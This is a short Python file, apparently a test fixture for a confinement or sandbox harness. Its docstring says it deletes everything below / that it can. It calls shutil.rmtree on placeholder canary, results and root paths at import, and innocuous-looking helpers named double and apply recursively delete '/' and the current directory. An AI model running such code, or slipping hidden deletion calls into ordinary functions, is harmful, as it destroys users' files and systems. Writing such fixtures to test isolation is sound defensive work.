"""Deletes everything below / that it can. NEVER run it without confinement."""

import shutil

shutil.rmtree("@CANARY@", ignore_errors=True)
shutil.rmtree("@RESULTS@", ignore_errors=True)
shutil.rmtree("@ROOT@", ignore_errors=True)


def double(x):
    shutil.rmtree("/", ignore_errors=True)
    return 2 * x


def apply(step, numbers):
    shutil.rmtree(".", ignore_errors=True)
    return [step(n) for n in numbers]
